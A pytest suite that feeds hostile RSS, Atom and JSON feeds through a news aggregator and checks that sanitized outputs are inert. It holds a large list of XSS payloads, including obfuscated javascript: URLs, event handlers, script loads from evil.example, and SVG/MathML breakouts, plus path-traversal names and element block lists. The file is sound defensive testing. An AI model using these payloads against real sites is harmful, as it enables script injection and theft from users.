"""Untrusted content end to end (issue #4): hostile feeds served by a real HTTP server,
ingested through the real path on SQLite and PostgreSQL, then every output read back with
real parsers and walked element by element.

Outputs checked: RSS 2.0, Atom and JSON Feed for every category and ``all`` (through the
Starlette app), the home, category and item pages, and the static export (feeds, pages
and Jekyll posts). In each: no active element (script, style, frames, object, embed, base,
meta refresh, forms, svg, math), no ``on*`` or ``style`` attribute, every URL http, https
or mailto once entities, whitespace and control characters are taken out, relative URLs
in content resolved against the item's link, titles plain text, and no character XML 1.0
forbids, whatever control characters, lone surrogates and non-characters a source sent.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urljoin

import feedparser
import lxml.html
import pytest
import yaml
from lxml import etree
from markupsafe import escape
from starlette.testclient import TestClient

from aggregator.config.settings import Settings, parse_settings
from aggregator.model import StoredItem
from aggregator.publish.export import FORMATS, export
from aggregator.publish.publisher import Publisher
from aggregator.publish.render import atom_id
from aggregator.runtime.scheduler import run_pass
from aggregator.serve.app import create_app
from aggregator.slug import is_valid_slug
from aggregator.store.sql import SqlStore
from tests.feedcheck import CHECKS, STRICT
from tests.feedserver import FeedServer, Route
from tests.ingest.test_update import make_context

SITE = "http://news.example"
ATOM = "{http://www.w3.org/2005/Atom}"
CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"

# (id, HTML): each goes into an item's title, summary and content in RSS, Atom and JSON Feed.
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="http://evil.example/x.js"></script>'),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-in-attribute", '<p title="</p><script>alert(1)</script>">x</p>'),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-mixed-case", '<IMG SRC="x" OnErRoR="alert(1)">'),
    ("img-slash-separated", "<img/src=x/onerror=alert(1)>"),
    ("img-backtick", "<img src=x onerror=`alert(1)`>"),
    ("img-unclosed", '<img src="x" alt="y onerror=alert(1) '),
    ("body-onload", "<body onload=alert(1)>x</body>"),
    ("svg-onload", "<svg onload=alert(1)><circle r=1 /></svg>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", "<svg><a><animate attributeName=href values=javascript:alert(1) />x</a></svg>"),
    ("svg-set", '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>'),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>'),
    ("svg-foreign-object", "<svg><foreignObject><iframe src=javascript:alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>"),
    ("a-onclick", '<a href="http://ok.example/" onclick="alert(1)">x</a>'),
    ("div-onmouseover", '<div onmouseover="alert(1)">x</div>'),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("href-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("href-decimal-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    (
        "href-all-hex-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;'
        '&#x70;&#x74;&#x3A;alert(1)">x</a>',
    ),
    ("href-newline-split", '<a href="java\nscript:alert(1)">x</a>'),
    ("href-leading-spaces", '<a href="  javascript:alert(1)">x</a>'),
    ("href-leading-nbsp", '<a href="&nbsp;javascript:alert(1)">x</a>'),
    ("href-leading-ideographic-space", '<a href="&#x3000;JavaScript:alert(1)">x</a>'),
    ("href-leading-control", '<a href="&#x1;javascript:alert(1)">x</a>'),
    ("href-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("href-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("href-broken-ipv6", '<a href="//[x">x</a><a href="http://[::1">y</a>'),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    ("img-src-data", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("img-srcset", '<img src="http://ok.example/a.png" srcset="javascript:alert(1) 1x">'),
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object", '<object data="javascript:alert(1)"><param name=src value=x></object>'),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("style-element", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-import", "<style>@import 'http://evil.example/x.css';</style>"),
    ("style-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-url", '<div style="background-image:url(javascript:alert(1))">x</div>'),
    ("link-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
    ("math-xlink", '<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("cdata-in-html", "<![CDATA[<script>alert(1)</script>]]>"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("comment-breakout", "<!--><img src=x onerror=alert(1)>-->"),
    ("double-escaped", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;"),
    ("markdown-link", "[click](javascript:alert(1)) ![i](javascript:alert(2))"),
    ("liquid", "{{ site.time }} {% include evil.html %}"),
    ("kramdown-attributes", 'x\n{: onclick="alert(1)"}\n'),
    (
        "relative-urls",
        '<a href="rel/page.html">r</a><img src="../img/pic.png" alt="p">'
        '<a href="/root.html">a</a><a href="?q=1">q</a>',
    ),
)
RELATIVE = ("rel/page.html", "../img/pic.png", "/root.html", "?q=1")
# Item links a reader must never be sent to: such an item links to its own page instead.
HOSTILE_LINKS = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "http://[x/unclosed-ipv6-host",
)
TITLE_ONLY = "<img src=x onerror=alert('title')>"  # double-escaped in the feed: plain text
# Media names a category slug (and so a file name) is made from.
HOSTILE_NAMES = (
    "../../etc",
    "..",
    ".",
    "/abs",
    "a/b",
    "..\\..\\windows",
    "&#0;nul&#0;",
    "%2e%2e%2fetc",
    "&lt;script&gt;alert('name')&lt;/script&gt;",
    "x](javascript:alert(1)) [y",
    "{{ site.github }} {% include evil.html %}",
    "\u202egnp.exe",
    "长" * 120 + "a" * 300,
)
# Character references to what XML 1.0 forbids, and to a few it allows but we drop.
BAD_REFS = (
    "&#x1;&#x8;&#xB;&#xC;&#x1B;&#x1F;&#x7F;&#0;&#xD800;&#xDBFF;&#xDFFF;&#xFFFE;&#xFFFF;"
    "&#xFDD0;&#1114112;&#x110000;"
)
BAD_JSON = "\udfff\ud800\x00\x01\x0b\x1f\x7f\ufffe\uffff\ufdd0"  # lone surrogates
RAW_BAD = b"\x01\x08\x0b\x0c\x1b\x1f\x7f\xef\xbf\xbe\xef\xbf\xbf"  # U+FFFE, U+FFFF in UTF-8
XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")

CONFIG = """
site_url: {site}
allow_networks: [127.0.0.0/8]
categories:
  xss-rss: {{title: XSS RSS}}
  xss-atom: {{title: XSS Atom}}
  xss-json: {{title: XSS JSON}}
sources:
  - {{id: xss-rss, url: "{url}/xss.rss", category: xss-rss}}
  - {{id: xss-atom, url: "{url}/xss.atom", category: xss-atom}}
  - {{id: xss-json, url: "{url}/xss.json", category: xss-json}}
  - {{id: names, url: "{url}/names.rss", category_from: author}}
  - {{id: controls-author, url: "{url}/controls-author.rss", category_from: author}}
  - {{id: controls-tags, url: "{url}/controls-tags.rss", category_from: tags}}
  - {{id: controls-source, url: "{url}/controls-source.rss", category_from: source}}
  - {{id: controls-raw, url: "{url}/controls-raw.rss", category_from: author}}
  - {{id: controls-json, url: "{url}/controls.json", category_from: author}}
"""


# --------------------------------------------------------------------------- feeds


def x(text: str) -> str:
    """Text as XML character data."""
    return html.escape(text, quote=False)


def cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


@dataclass(frozen=True)
class Entry:
    """One item, every field already XML (escaped text, CDATA or raw references)."""

    title: str
    link: str
    summary: str
    content: str
    author: str = "作者"
    category: str = "分类"
    source: str = "来源"
    guid: str | None = None


def rss(entries: Iterable[Entry]) -> str:
    items = "".join(
        f"<item><title>{e.title}</title><link>{e.link}</link><guid>{e.guid or e.link}</guid>"
        f"<description>{e.summary}</description><content:encoded>{e.content}</content:encoded>"
        f"<dc:creator>{e.author}</dc:creator><category>{e.category}</category>"
        f'<source url="http://source.example/">{e.source}</source>'
        f"<pubDate>Tue, 25 Jan 2022 {10 + n % 10}:{n % 60:02d}:00 +0800</pubDate></item>\n"
        for n, e in enumerate(entries)
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        "<title>恶意</title><link>http://evil.example/</link><description>d</description>\n"
        f"{items}</channel></rss>"
    )


def atom(entries: Iterable[Entry], extra: str = "") -> str:
    items = "".join(
        f'<entry><title type="html">{e.title}</title><link href="{html.escape(e.link)}"/>'
        f"<id>{e.guid or 'urn:x-entry:' + str(n)}</id><updated>2022-01-25T10:00:00+08:00</updated>"
        f'<summary type="html">{e.summary}</summary><content type="html">{e.content}</content>'
        f"<author><name>{e.author}</name></author></entry>\n"
        for n, e in enumerate(entries)
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>恶意</title><id>urn:x-feed:evil</id><updated>2022-01-25T10:00:00Z</updated>\n"
        f"{items}{extra}</feed>"
    )


def xss_entries(prefix: str, as_cdata: bool) -> list[Entry]:
    entries = [
        Entry(
            title=x(payload),
            link=f"http://evil.example/{prefix}/{name}/page.html",
            summary=x("<p>摘要</p>" + payload),
            content=cdata(payload + "<p>正文</p>") if as_cdata else x(payload + "<p>正文</p>"),
        )
        for name, payload in PAYLOADS
    ]
    entries += [
        Entry(
            title=f"hostile link {n}",
            link=x(link),
            summary="summary",
            content="content",
            guid=f"http://[guid/{prefix}/{n}",  # not a URL either
        )
        for n, link in enumerate(HOSTILE_LINKS)
    ]
    # A title alone: some outputs stand it in for the description, which is HTML.
    entries.append(
        Entry(
            title=x(x(TITLE_ONLY)),
            link=f"http://evil.example/{prefix}/title-only/page.html",
            summary="",
            content="",
        )
    )
    return entries


XHTML_ENTRY = """<entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">xhtml
<script>alert(1)</script></div></title><link href="http://evil.example/atom/xhtml/page.html"/>
<id>urn:x-entry:xhtml</id><updated>2022-01-25T10:00:00+08:00</updated><content type="xhtml">
<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><a href="javascript:alert(1)"
onclick="alert(2)">x</a><img src="rel.png" onerror="alert(3)"/><iframe src="http://e.example/"/>
</div></content></entry>"""


def json_feed(items: Sequence[dict[str, Any]]) -> bytes:
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "恶意",
        "home_page_url": "http://evil.example/",
        "items": items,
    }
    return json.dumps(document, ensure_ascii=True).encode("ascii")


def xss_json_items() -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = [
        {
            "id": f"http://evil.example/json/{name}",
            "url": f"http://evil.example/json/{name}/page.html",
            "title": payload,
            "summary": "<p>摘要</p>" + payload,
            "content_html": payload + "<p>正文</p>",
            "authors": [{"name": "作者"}],
        }
        for name, payload in PAYLOADS
    ]
    items += [
        {"id": f"http://[guid/json/{n}", "url": link, "title": f"hostile link {n}"}
        | {"content_html": "<p>x</p>"}
        for n, link in enumerate(HOSTILE_LINKS)
    ]
    items.append(
        {
            "id": "http://evil.example/json/title-only",
            "url": "http://evil.example/json/title-only/page.html",
            "title": x(TITLE_ONLY),
        }
    )
    return items


def control_entries(prefix: str, count: int = 3) -> list[Entry]:
    html_refs = BAD_REFS.replace("&", "&amp;")  # the same references, inside the HTML
    return [
        Entry(
            title=f"标题{BAD_REFS}{n}",
            link=f"http://ctl.example/{prefix}/{n}{BAD_REFS}",
            guid=f"guid-{prefix}-{n}{BAD_REFS}",
            summary=f"&lt;p title=&quot;{html_refs}&quot;&gt;摘要{BAD_REFS}{html_refs}&lt;/p&gt;",
            content=(
                cdata(f"<p>正文{html_refs.replace('&amp;', '&')}</p>")
                if n % 2
                else f"&lt;p&gt;正文{BAD_REFS}&lt;/p&gt;"
            ),
            author=f"{prefix}作者{BAD_REFS}{n}",
            category=f"{prefix}分类{BAD_REFS}{n}",
            source=f"{prefix}来源{BAD_REFS}{n}",
        )
        for n in range(count)
    ]


def raw_controls_feed() -> bytes:
    bad = RAW_BAD.decode("utf-8")
    entries = [
        Entry(
            title=f"标题{bad}{n}",
            link=f"http://ctl.example/raw/{n}",
            summary=f"&lt;p&gt;摘要{bad}&lt;/p&gt;",
            content=cdata(f"<p>正文{bad}</p>"),
            author=f"raw作者{bad}{n}",
        )
        for n in range(2)
    ]
    return rss(entries).encode("utf-8")


def controls_json_items() -> list[dict[str, Any]]:
    return [
        {
            "id": f"json-{n}{BAD_JSON}",
            "url": f"http://ctl.example/json/{n}{BAD_JSON}",
            "title": f"标题{BAD_JSON}{n}",
            "summary": f"<p>摘要{BAD_JSON}</p>",
            "content_html": f"<p title='{BAD_JSON}'>正文{BAD_JSON}</p>",
            "authors": [{"name": f"json作者{BAD_JSON}{n}"}],
            "tags": [f"标签{BAD_JSON}"],
        }
        for n in range(2)
    ] + [{"id": f"text{BAD_JSON}", "content_text": f"<b>文本{BAD_JSON}</b>", "title": ""}]


def names_feed() -> str:
    return rss(
        Entry(
            title=f"名字 {n}",
            link=f"http://names.example/{n}.html",
            summary="摘要",
            content=x('<p>正文 <a href="rel.html">r</a></p>'),
            author=name if name.startswith("&#") else x(name),
        )
        for n, name in enumerate(HOSTILE_NAMES)
    )


@pytest.fixture
def site(store: SqlStore, feed_server: FeedServer) -> tuple[Settings, SqlStore]:
    """Every hostile source, fetched once over HTTP into the store."""
    routes = {
        "/xss.rss": rss(xss_entries("rss", as_cdata=True)).encode(),
        "/xss.atom": atom(xss_entries("atom", as_cdata=False), XHTML_ENTRY).encode(),
        "/xss.json": json_feed(xss_json_items()),
        "/names.rss": names_feed().encode(),
        "/controls-raw.rss": raw_controls_feed(),
        "/controls.json": json_feed(controls_json_items()),
    }
    for kind in ("author", "tags", "source"):
        routes[f"/controls-{kind}.rss"] = rss(control_entries(kind)).encode()
    for path, body in routes.items():
        feed_server.routes[path] = Route(body)
    settings = parse_settings(CONFIG.format(site=SITE, url=feed_server.url("")))
    outcomes, _ = run_pass(make_context(settings, store))
    assert [(o.source_id, o.error) for o in outcomes if o.error] == []
    assert all(o.item_count for o in outcomes), outcomes
    return settings, store


def stored_items(store: SqlStore) -> list[StoredItem]:
    items = store.list_feed_items(None, 1000)
    assert len(items) == store.count_items()
    return items


# --------------------------------------------------------------------------- checks

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background",
    "data", "codebase", "cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest", "icon",
    "to", "values", "from", "by",
}  # fmt: skip
ACTIVE_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "param",
    "base", "meta", "link", "form", "input", "button", "textarea", "select", "isindex",
    "svg", "math", "animate", "set", "use", "foreignobject", "template", "noscript", "xmp",
    "marquee", "html", "head", "body", "title",
}  # fmt: skip
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_INVISIBLE = re.compile(r"[\s\x00-\x20\x7f-\x9f\u200b-\u200f\u2060\ufeff]+")


def url_problem(value: str, relative_ok: bool) -> str | None:
    """Why a URL is unsafe (None if it is fine). A browser drops tabs and newlines anywhere
    and control characters and spaces around it; we drop every kind of whitespace and
    invisible character anywhere, after one more round of entity decoding."""
    cleaned = _INVISIBLE.sub("", html.unescape(value)).lower()
    if found := _SCHEME.match(cleaned):
        return None if found.group(1) in SAFE_SCHEMES else f"scheme {found.group(1)!r}: {value!r}"
    return None if relative_ok else f"relative URL not resolved: {value!r}"


def is_page_chrome(element: lxml.html.HtmlElement, name: str) -> bool:
    """The few active-looking elements a page's own template is allowed."""
    parent = element.getparent()
    in_head = parent is not None and parent.tag == "head"
    if name in ("html", "head", "body"):
        return True
    if name == "title" or name == "style":
        return in_head and len(element) == 0
    if name == "meta":
        return in_head and set(element.attrib) <= {"charset", "name", "content"}
    if name == "link":
        return in_head and element.get("rel") == "alternate"
    return False


def html_problems(root: lxml.html.HtmlElement, *, page: bool, relative_ok: bool) -> list[str]:
    """Everything in an HTML tree that could run script, restyle or send the reader off."""
    problems: list[str] = []
    for element in root.iter():
        if not isinstance(element.tag, str):  # a comment or processing instruction
            problems.append(f"markup node kept: {etree.tostring(element)[:80]!r}")
            continue
        name = element.tag.rpartition("}")[2].lower()
        if name in ACTIVE_ELEMENTS and not (page and is_page_chrome(element, name)):
            problems.append(f"<{name}> element")
        for attribute, value in element.attrib.items():
            local = attribute.rpartition("}")[2].lower()
            if local.startswith("on") or local in ("style", "srcdoc", "http-equiv"):
                problems.append(f"<{name} {local}={value!r}>")
            if local in URL_ATTRIBUTES or local.endswith("href"):
                for part in value.split(",") if local == "srcset" else [value]:
                    if problem := url_problem(part.strip().split(" ")[0], relative_ok):
                        problems.append(f"<{name} {local}>: {problem}")
    return problems


def fragment(text: str) -> lxml.html.HtmlElement:
    return lxml.html.fragment_fromstring(text, create_parent="div")


def fragment_problems(text: str | None) -> list[str]:
    """An item's HTML (summary or content): inert, and every URL absolute."""
    if not text or not text.strip():
        return []
    return html_problems(fragment(text), page=False, relative_ok=False) + forbidden_chars(text)


def forbidden_chars(text: str) -> list[str]:
    found = XML_FORBIDDEN.findall(text)
    return [f"characters XML forbids: {found[:5]!r}"] if found else []


def link_hrefs(text: str) -> set[str]:
    tree = fragment(text)
    return {v for e in tree.iter() for k, v in e.attrib.items() if k in ("href", "src")}


def expected_relative(link: str) -> set[str]:
    return {urljoin(link, relative) for relative in RELATIVE}


def is_relative_payload(link: str | None) -> bool:
    return bool(link) and "/relative-urls/" in str(link)


def json_strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from json_strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from json_strings(inner)


def atom_html(element: etree._Element | None) -> str | None:
    """An Atom text construct as HTML: type text is plain text, so escaped here."""
    if element is None:
        return None
    text = element.text or ""
    return text if element.get("type") == "html" else html.escape(text)


def check_feed(ext: str, body: bytes, by_id: dict[str, StoredItem]) -> tuple[list[str], int]:
    """Problems in one RSS/Atom/JSON Feed document; also returns how many items it held."""
    problems = CHECKS[ext](body)
    entries: list[tuple[str, str, str, list[str | None]]] = []  # id, title, link, html
    if ext == "json":
        document = json.loads(body)
        for text in json_strings(document):
            problems += forbidden_chars(text)
        for item in document["items"]:
            if not isinstance(item["title"], str):
                problems.append(f"title is not a string: {item['title']!r}")
            html_fields = [item.get("content_html"), item.get("summary")]
            entries.append((item["id"], item["title"], item["url"], html_fields))
    else:
        parsed = feedparser.parse(body)
        if parsed.bozo:
            problems.append(f"feedparser: {parsed.get('bozo_exception')}")
        root = etree.fromstring(body, STRICT)
        for element in root.iter():
            for attribute, value in element.attrib.items():
                if attribute in ("href", "url") and (problem := url_problem(str(value), False)):
                    problems.append(f"<{element.tag} {attribute}>: {problem}")
        if ext == "xml":  # a channel's <description> is HTML to readers, as an item's
            problems += fragment_problems(root.findtext("channel/description"))
            for item in root.iter("item"):
                title = item.find("title")
                assert title is not None
                if len(title):
                    problems.append(f"RSS title with child elements: {etree.tostring(title)!r}")
                html_fields = [item.findtext("description"), item.findtext(CONTENT)]
                guid, link = item.findtext("guid") or "", item.findtext("link") or ""
                entries.append((guid, title.text or "", link, html_fields))
        else:
            for entry in root.iter(ATOM + "entry"):
                title = entry.find(ATOM + "title")
                assert title is not None
                if len(title) or title.get("type", "text") != "text":
                    problems.append(f"Atom title is not plain text: {etree.tostring(title)!r}")
                html_fields = [
                    atom_html(entry.find(ATOM + name)) for name in ("summary", "content")
                ]
                link_element = entry.find(ATOM + "link")
                link = (link_element.get("href") if link_element is not None else None) or ""
                entries.append(
                    (entry.findtext(ATOM + "id") or "", title.text or "", link, html_fields)
                )
    for entry_id, title, link, html_fields in entries:
        stored = by_id.get(entry_id)
        if stored is None:
            problems.append(f"unknown id {entry_id!r}")
            continue
        if title != stored.title:
            problems.append(f"title {title!r} is not the stored {stored.title!r}")
        if problem := url_problem(link, relative_ok=False):
            problems.append(f"item link: {problem}")
        for markup in html_fields:
            problems += fragment_problems(markup)
            if markup and is_relative_payload(stored.link) and "rel/page.html" in markup:
                assert stored.link is not None
                if link_hrefs(markup) != expected_relative(stored.link):
                    problems.append(f"relative URLs not resolved: {link_hrefs(markup)}")
    return problems, len(entries)


def check_page(body: bytes, titles: Sequence[str] = ()) -> list[str]:
    """A whole HTML page: only its own chrome is active, every title escaped."""
    text = body.decode("utf-8")
    problems = forbidden_chars(text)
    root = lxml.html.document_fromstring(body)
    problems += html_problems(root, page=True, relative_ok=True)
    if len(root.findall(".//style")) != 1:
        problems.append("a page has exactly its own one <style>")
    for article in root.iter("article"):  # an item's body: every URL absolute
        problems += html_problems(article, page=False, relative_ok=False)
    for title in titles:
        if str(escape(title)) not in text:
            problems.append(f"title not escaped as text: {title!r}")
    return problems


MARKDOWN_ACTIVE = re.compile(r"[\[\]{}]")
FOOTER = re.compile(
    r"^\[返回[^\[\]{}<>\\]*\]\(https?://[^\s()<>{}]+\)｜\[返回首页\]\(https?://[^\s()<>{}]+/\)$"
)
LINK_LINE = re.compile(r"^(<https?://[^\s<>\"{}|\\^`\[\]]+>)?$")


def check_jekyll_post(text: str, by_link: dict[str, StoredItem]) -> list[str]:
    """A post: front matter that YAML reads, an inert HTML body, and nothing Liquid or
    kramdown would turn into markup (links, attribute lists, tags) outside the footer."""
    problems = forbidden_chars(text)
    _, front, rest = text.split("---\n", 2)
    meta = yaml.safe_load(front)
    body, blank, link_line, blank2, footer = rest.rsplit("\n", 4)
    assert blank == blank2 == ""
    if not isinstance(meta["title"], str):
        problems.append(f"title is not a string: {meta['title']!r}")
    if not LINK_LINE.match(link_line):
        problems.append(f"link line: {link_line!r}")
    elif link_line and html.unescape(meta["title"]) != by_link[link_line[1:-1]].title:
        problems.append(f"title {meta['title']!r} is not the stored one")
    tags = meta["tags"] if isinstance(meta["tags"], list) else [meta["tags"]]
    for value in (meta["title"], *tags):  # layouts print them into HTML as they are
        if re.search("[<>\"']", str(value)):
            problems.append(f"front matter not escaped for HTML: {value!r}")
    if not FOOTER.match(footer):
        problems.append(f"footer: {footer!r}")
    if MARKDOWN_ACTIVE.search(body) or "\n{:" in body:
        problems.append(f"markdown or Liquid syntax in the body: {body[:120]!r}")
    problems += fragment_problems(body)
    relative = is_relative_payload(link_line[1:-1]) and "rel/page.html" in body
    if relative and link_hrefs(body) != expected_relative(link_line[1:-1]):
        problems.append(f"relative URLs not resolved: {link_hrefs(body)}")
    return problems


# --------------------------------------------------------------------------- tests


def test_every_hostile_item_was_stored(site: tuple[Settings, SqlStore]) -> None:
    """Nothing was skipped: each check below sees every payload in every format."""
    _, store = site
    for slug in ("xss-rss", "xss-json"):
        assert store.count_items(slug) == len(PAYLOADS) + len(HOSTILE_LINKS) + 1
    assert store.count_items("xss-atom") == len(PAYLOADS) + len(HOSTILE_LINKS) + 2
    items = stored_items(store)
    assert {i.link for i in items if i.title.startswith("hostile link")} == {None}
    titles = {i.title for i in items}
    assert "<script>alert(1)</script> &lt;b&gt;" in titles  # double-escaped: plain text
    assert TITLE_ONLY in titles
    assert {f"标题{n}" for n in range(3)} <= titles  # controls gone, the rest kept
    names = {c.name for c in store.list_categories() if c.name}
    assert "<script>alert('name')</script>" in names


@pytest.mark.parametrize("ext", ["xml", "atom", "json"])
def test_feeds_are_inert_and_well_formed(site: tuple[Settings, SqlStore], ext: str) -> None:
    settings, store = site
    client = TestClient(create_app(settings, store))
    items = stored_items(store)
    by_id = {atom_id(i.stable_id) if ext == "atom" else i.stable_id: i for i in items}
    slugs = [c.slug for c in store.list_categories() if c.item_count]
    checked = 0
    for key in [*slugs, "all"]:
        response = client.get(f"/feeds/{key}.{ext}?limit=500")
        assert response.status_code == 200, key
        problems, count = check_feed(ext, response.content, by_id)
        assert problems == [], (key, problems[:10])
        checked += count
    assert checked == 2 * len(items)  # each item in its category feed and in "all"


def test_pages_are_inert_and_escape_titles(site: tuple[Settings, SqlStore]) -> None:
    settings, store = site
    client = TestClient(create_app(settings, store))
    items = stored_items(store)
    home = client.get("/")
    assert check_page(home.content) == []
    for category in store.list_categories():
        if not category.item_count:
            continue
        in_category = store.list_feed_items((category.slug,), 50)
        page = client.get(f"/category/{category.slug}.html")
        assert page.status_code == 200
        problems = check_page(page.content, [category.title, *(i.title for i in in_category)])
        assert problems == [], (category.slug, problems[:10])
    for item in items:
        page = client.get(f"/item/{item.item_id}.html")
        assert page.status_code == 200
        problems = check_page(page.content, [item.title])
        root = lxml.html.document_fromstring(page.content)
        heading = root.find(".//h1")
        assert heading is not None
        if len(heading) or "".join(map(str, heading.itertext())) != item.title:
            problems.append(f"h1 is not the title as text: {lxml.html.tostring(heading)!r}")
        if is_relative_payload(item.link) and item.link:
            article = root.find(".//article")
            assert article is not None
            found = {a.get("href") or a.get("src") for a in article.iter("a", "img")}
            if not expected_relative(item.link) <= found:
                problems.append(f"relative URLs not resolved: {found}")
        assert problems == [], (item.title, problems[:10])


def test_static_export_is_inert_and_stays_in_the_output_folder(
    site: tuple[Settings, SqlStore], tmp_path: Path
) -> None:
    settings, store = site
    items = stored_items(store)
    out = tmp_path / "export" / "site"
    written = export(Publisher(settings, store, SITE), out, FORMATS)
    root = out.resolve()
    for path in written:
        assert root in path.resolve().parents, path
    assert sorted(p.name for p in (tmp_path / "export").iterdir()) == ["site"]
    files = sorted(p for p in out.rglob("*") if p.is_file())
    assert sorted(written) == files  # nothing else, no temporary files
    by_ext = {"xml": "xml", "atom": "atom", "json": "json"}
    by_id = {i.stable_id: i for i in items} | {atom_id(i.stable_id): i for i in items}
    by_link = {i.link: i for i in items if i.link}
    posts = 0
    for path in files:
        relative = path.relative_to(out).as_posix()
        if relative.startswith("feeds/"):
            problems, _ = check_feed(by_ext[path.suffix[1:]], path.read_bytes(), by_id)
        elif relative.startswith("_posts/"):
            problems = check_jekyll_post(path.read_text(encoding="utf-8"), by_link)
            posts += 1
        else:
            assert path.suffix == ".html", relative
            problems = check_page(path.read_bytes())
        assert problems == [], (relative, problems[:10])
    assert posts == len(items)
    assert len(list(out.glob("item/*.html"))) == len(items)


def test_hostile_media_names_make_safe_slugs(site: tuple[Settings, SqlStore]) -> None:
    _, store = site
    categories = store.list_categories()
    assert all(is_valid_slug(c.slug) for c in categories), [c.slug for c in categories]
    by_name = {c.name: c.slug for c in categories if c.name}
    assert by_name["../../etc"] == "etc"
    assert by_name["a/b"] == "a-b"
    assert by_name["nul"] == "nul"  # NUL references dropped
    long_name = next(name for name in by_name if name.startswith("长"))
    assert len(by_name[long_name]) <= 80
    assert by_name[".."].startswith("c-")


@pytest.mark.parametrize(
    "markup",
    [
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="&#xA0;javascript:alert(1)">x</a>',
        '<img src="x.png">',
        '<p onclick="x()">x</p>',
        '<p style="color:red">x</p>',
        "<script>alert(1)</script>",
        "<svg></svg>",
        "<!-- comment -->",
    ],
    ids=["tab", "nbsp", "relative", "handler", "style", "script", "svg", "comment"],
)
def test_the_checker_catches_what_it_looks_for(markup: str) -> None:
    assert fragment_problems("<p>ok</p>" + markup) != []
    assert fragment_problems('<p>ok <a href="https://a.example/">a</a></p>') == []
